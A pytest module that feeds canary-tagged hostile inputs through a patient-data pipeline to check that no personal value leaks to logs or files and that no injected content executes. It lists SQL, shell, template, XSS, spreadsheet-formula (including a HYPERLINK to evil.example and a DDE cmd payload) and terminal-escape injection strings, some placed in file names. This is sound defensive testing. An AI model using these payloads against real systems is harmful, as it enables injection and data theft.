"""No value of a person leaves the folders that are meant for it, and none does anything where it is shown.

Canaries stand in every column, each inside what one of the readers of our output would run.
"""

import csv
import os
import subprocess
import sys
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from canonical import csv_text, record, write
from commands import outcomes
from faultlog import tried
from ready import copied

from flows.settings import create_workspace, open_workspace
from schemas.contract import TABLES, contract

ROOT = Path(__file__).parents[2]
CANARY = "kanari3nvogel"
# What SQL, a shell, a template, HTML, Markdown, a spreadsheet or a terminal would run or obey, around a canary.
HOSTILE = (
    "'); DROP SCHEMA history CASCADE; -- {}",
    "$(touch {0}) `touch {0}` ; touch {0}",
    "{{{{ 7 * 7 }}}} {{% raw %}} ${{7*7}} %s {}",
    "<script>alert('{}')</script>",
    "<img src=x onerror=alert('{}')>",
    "[{0}](javascript:alert('{0}'))",
    '=HYPERLINK("http://evil.example/{}")',
    "@SUM(1+1)*cmd|' /C {}'!A0",
    "\x1b]0;{}\x07\x1b[2J\x9b31m",
    "\u202e{}\u2066",
)
# Names of files: as above, but for the slash that no name can hold.
NAMES = [
    "consent-<img src=x onerror=alert(1)>.csv",
    "consent-[x](javascript:alert(1)).csv",
    "consent-=1+1.csv",
    "consent-{{7*7}}.csv",
    "consent-'); DROP SCHEMA history; --.csv",
    "consent-\x1b]0;owned\x07\x1b[2J.csv",
    "consent-\u202evsc.csv",
]
# Where the originals are meant to be.
ORIGINALS = ("landing", "archive", "quarantine", "sources")
RUN = """
import logging, sys
from pathlib import Path
logging.basicConfig(level=logging.DEBUG)
from deployments.local_server import serving
import os
from flows.settings import open_workspace
root = open_workspace(Path(sys.argv[1])).root
loud = {name: value for name, value in os.environ.items() if name.startswith("PREFECT_")}
with serving(root / "prefect") as variables:
    os.environ.update(variables | loud)
    from flows import deployed
    print(deployed.take(root, reason="canaries"))
    print(deployed.report_now(root, reason="canaries"))
    try:
        deployed.take(root, [root / "nowhere.csv"], reason="an error on purpose")
    except Exception:
        logging.exception("as meant")
    deployed.send_rest()
"""


def hostile_rows(table):
    """For each column a record whose value there is a canary, and one that is good but for its names and an unknown column."""
    for n, column in enumerate(contract(table).delivered_columns):
        said = HOSTILE[n % len(HOSTILE)].format(f"{CANARY}-in-{column.name}")
        if column.is_open:
            said += " and whatever else somebody may write" * 4  # longer than a word that no list has may be
        yield record(table, f"{CANARY}-{table}-{n}", source_patient_id=f"{CANARY}-p{n}") | {
            column.delivered_name: said,
            "a_free_text": said,
        }


@pytest.fixture(scope="module")
def run(tmp_path_factory, prefect_home):
    """The workspace after a tracked run with everything at the level of debugging, and what was printed."""
    root = create_workspace(tmp_path_factory.mktemp("canaries") / "ws").root
    workspace = open_workspace(root)
    copied(prefect_home, root / "prefect")
    landing = workspace.folder("landing", "canonical")
    for table in TABLES:
        rows = list(hostile_rows(table))
        tried("canaries", len(rows))
        good = [record(table, f"{CANARY}-g{n}", source_patient_id=f"{CANARY}-p{n}") for n in range(400)]
        write(landing / f"{table}.csv", csv_text([*good, *rows]))
    write(landing / "consent-held.csv", csv_text(list(hostile_rows("consent"))))
    write(landing / "consent-unreadable.csv", f"source_record_id,{CANARY}\n{CANARY}\xe9,x\n".encode("cp1252"))
    write(landing / "consent-broken.csv", csv_text([record("consent", "x")]) + f'"{CANARY} never closed,\n')
    for n, name in enumerate(NAMES):
        # Every second one is refused in part, so that quarantine names it too.
        rows = [record("consent", f"{CANARY}-n{n}-{k}") for k in range(20)]
        rows += [record("consent", f"{CANARY}-n{n}-x", status=HOSTILE[n].format(CANARY))] * (n % 2)
        write(landing / name, csv_text(rows))
    loud = {"PREFECT_LOGGING_LEVEL": "DEBUG", "PREFECT_LOGGING_ROOT_LEVEL": "DEBUG", "PREFECT_DEBUG_MODE": "1"}
    done = subprocess.run(
        [sys.executable, "-c", RUN, root],
        capture_output=True,
        text=True,
        check=False,
        timeout=200,
        cwd=ROOT,
        env={**os.environ, **loud},
        umask=0o022,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    assert "an error on purpose" in done.stdout + done.stderr or "as meant" in done.stderr
    return workspace, done.stdout + done.stderr


def test_the_run_went_through_all_that_can_become_of_a_file(run):
    workspace, _ = run
    with duckdb.connect(str(workspace.snapshot), read_only=True) as con:
        found = dict(con.execute("SELECT status, count(*) FROM ops.file GROUP BY ALL").fetchall())
        assert set(found) == {"admitted", "held", "unreadable"}
        actions = {a for (a,) in con.execute("SELECT DISTINCT action FROM ops.quarantine").fetchall()}
        assert actions == {"refuse", "blank"}
    kept = b"".join(path.read_bytes() for path in (workspace.root / "archive").rglob("*") if path.is_file())
    assert CANARY.encode() in kept, "the search must be able to find"


def test_no_log_and_nothing_printed_names_a_person(run):
    assert [line[:200] for line in run[1].splitlines() if CANARY in line] == []


def test_no_file_but_the_originals_names_a_person(run):
    workspace, _ = run
    found = set()
    for path in workspace.root.rglob("*"):
        place = path.relative_to(workspace.root)
        if not path.is_file() or place.parts[0] in ORIGINALS:
            continue
        if CANARY.encode() in path.read_bytes():
            found.add(str(place))
        if path.suffix == ".parquet" and CANARY in repr(pq.read_table(path).to_pylist()):
            found.add(str(place))
    assert found == set()


def test_no_table_that_analysts_open_names_a_person(run):
    workspace, _ = run
    found = set()
    with duckdb.connect(str(workspace.snapshot), read_only=True) as con:
        columns = con.execute(
            "SELECT schema_name, table_name, column_name FROM duckdb_columns() JOIN duckdb_tables() USING (schema_name, table_name)"
        ).fetchall()
        for schema, table, column in columns:
            (count,) = con.execute(
                f'SELECT count(*) FROM "{schema}"."{table}" WHERE contains("{column}"::VARCHAR, ?)', [CANARY]
            ).fetchone()
            if count:
                found.add((schema, table, column))
    assert found == set()


class Elements(HTMLParser):
    """Every element and attribute of a page, as a browser would see them."""

    def __init__(self, page):
        super().__init__()
        self.found = Counter()
        self.feed(page.read_text(encoding="utf-8"))

    def handle_starttag(self, tag, attributes):
        self.found[tag] += 1
        for name, value in attributes:
            self.found[name if name.startswith("on") else ""] += 1
            self.found["javascript:"] += (value or "").strip().lower().startswith("javascript:")
            self.found["named"] += any(sign in (value or "") for sign in ("onerror", "javascript:alert"))


def test_nothing_of_a_file_is_run_by_a_page_that_names_it(run):
    workspace, _ = run
    pages = sorted(path for path in workspace.root.rglob("*.html") if "prefect" not in path.parts)
    assert any("report" in path.parts for path in pages)
    assert any("data-docs" in path.parts for path in pages)
    for path in pages:
        text = path.read_text(encoding="utf-8")
        found = Elements(path).found
        assert found["onerror"] == found["javascript:"] == found["named"] == 0, path
        assert "alert(1)>" not in text, path
        assert "{{7*7}}" not in text or "consent-{{7*7}}.csv" in text, path
        assert "consent-49.csv" not in text, path
        assert not [sign for sign in text if sign in "\x1b\x07\x9b\u202e\u2066"], path


def test_no_published_cell_is_a_formula(run):
    workspace, _ = run
    tables = sorted((workspace.root / "published").rglob("*.csv"))
    assert tables
    for path in tables:
        rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines(keepends=True)))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), path
                assert not cell.startswith("-") or float(cell) <= 0, path


COMMANDS = [
    ["status"],
    ["quarantine", "list"],
    ["quarantine", "show"],
    ["batch", "list"],
    ["query", "FROM ops.file"],
    ["check", "canonical"],
]


@pytest.mark.parametrize("form", [[], ["--json"]], ids=["text", "json"])
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_no_terminal_is_steered(run, tmp_path, command, form):
    workspace, printed = run
    assert "\x1b" not in printed
    if command[0] == "check":
        command = [*command, *(str(write(tmp_path / name, "a,b\n\x1b[2J,2\n")) for name in NAMES)]
    if command[1:2] == ["show"]:
        with duckdb.connect(str(workspace.snapshot), read_only=True) as con:
            (number,) = con.execute("SELECT max(file_id) FROM ops.quarantine").fetchone()
        command = ["quarantine", "show", str(number)]
    done = outcomes(workspace.root, *form, *command).wait()
    text = done.out + done.err
    assert "consent-" in text or command[0] in ("batch", "quarantine")
    assert "Traceback" not in text
    if command == ["status"]:
        # Nor does our own table printing take a name for its markup.
        assert "consent-[x](javascript:alert(1)).csv" in text.replace("\n", "")
    assert not {sign for sign in text if not sign.isprintable()} - {"\n"}


def test_everything_is_for_the_owner_alone_whoever_called(run):
    workspace, _ = run
    mine = [
        p
        for p in workspace.root.rglob("*")
        if not p.is_symlink() and p.relative_to(workspace.root).parts[0] != "landing"
    ]
    assert [str(path) for path in mine if path.stat().st_mode & 0o077] == []
